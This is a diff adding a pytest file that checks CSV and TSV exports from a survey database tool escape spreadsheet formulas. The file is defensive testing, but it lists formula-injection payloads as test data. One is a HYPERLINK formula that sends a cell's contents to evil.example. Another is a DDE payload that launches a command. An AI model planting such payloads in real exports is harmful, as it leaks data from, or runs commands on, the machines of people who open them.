@@ -1,0 +1,82 @@
+"""Formulas in public texts: a forged report must not run in the spreadsheet of whoever asks."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pyarrow as pa
+import pytest
+from support.command_line import run
+from support.surveys import ANYTHING, integer, public, survey_toml
+
+from ldpsql.cli import formats
+from ldpsql.designer import design
+from ldpsql.store import open_store
+from ldpsql_device.table import randomize
+
+FORGED = [
+    '=HYPERLINK("https://evil.example/?" & A1, "open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "=",
+]
+HARMLESS = ["1.2", "a=b", "'quoted'", " -", "", "a\r=1", "a\n=1", 'a","=1']
+TEXTS = [*FORGED, *HARMLESS]
+SURVEY = design(
+    survey_toml(integer("age", 0, 9), public("version", "text"), mechanism="grr", epsilon="1")
+)
+
+
+@pytest.fixture(scope="module")
+def database(tmp_path_factory):
+    path = tmp_path_factory.mktemp("store") / "app.duckdb"
+    people = pa.table({"age": [3] * 50 * len(TEXTS), "version": TEXTS * 50})
+    with open_store(path, read_only=False) as store:
+        store.ingest_table(randomize(SURVEY, people, policy=ANYTHING), SURVEY)
+    return path
+
+
+def is_formula(cell: str) -> bool:
+    """Whether a spreadsheet would run it: it begins like a formula and is no number."""
+    try:
+        float(cell)
+    except ValueError:
+        return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    return False
+
+
+def cells(database, target, form: str) -> list[list[str]]:
+    """What an answer and a made-up table hold, as a spreadsheet reads them."""
+    given = ["--db", database, "-o", target / f"table.{form}"]
+    sql = 'SELECT version, COUNT(*) AS "=n", COUNT(*) - 1000 FROM app WHERE age = 3 GROUP BY 1'
+    found = []
+    for command in (["query", sql], ["synthesize", "-n", 500, "--seed", 1]):
+        done = run(*command, *given)
+        assert done.exit_code == 0, done.stderr
+        text = (target / f"table.{form}").read_bytes().decode()
+        delimiter = "," if form == "csv" else "\t"
+        found += csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+    return found
+
+
+@pytest.mark.parametrize("form", ["csv", "tsv"])
+def test_no_cell_is_a_formula(database, tmp_path, form):
+    found = cells(database, tmp_path, form)
+    everything = {cell for row in found for cell in row}
+    assert not any(map(is_formula, everything))
+    assert everything >= {f"'{text}" for text in FORGED}
+    assert everything >= set(HARMLESS)
+    numbers = [row[2] for row in found[1 : len(TEXTS) + 1]]
+    assert all(float(number) < 0 for number in numbers)
+
+
+@pytest.mark.parametrize("form", ["csv", "tsv"])
+def test_texts_as_they_came_would_run(database, tmp_path, monkeypatch, form):
+    """Negative control."""
+    monkeypatch.setattr(formats, "_FORMULA_STARTS", ())
+    found = {cell for row in cells(database, tmp_path, form) for cell in row}
+    assert {cell for cell in found if is_formula(cell)} == {*FORGED, "=n"}
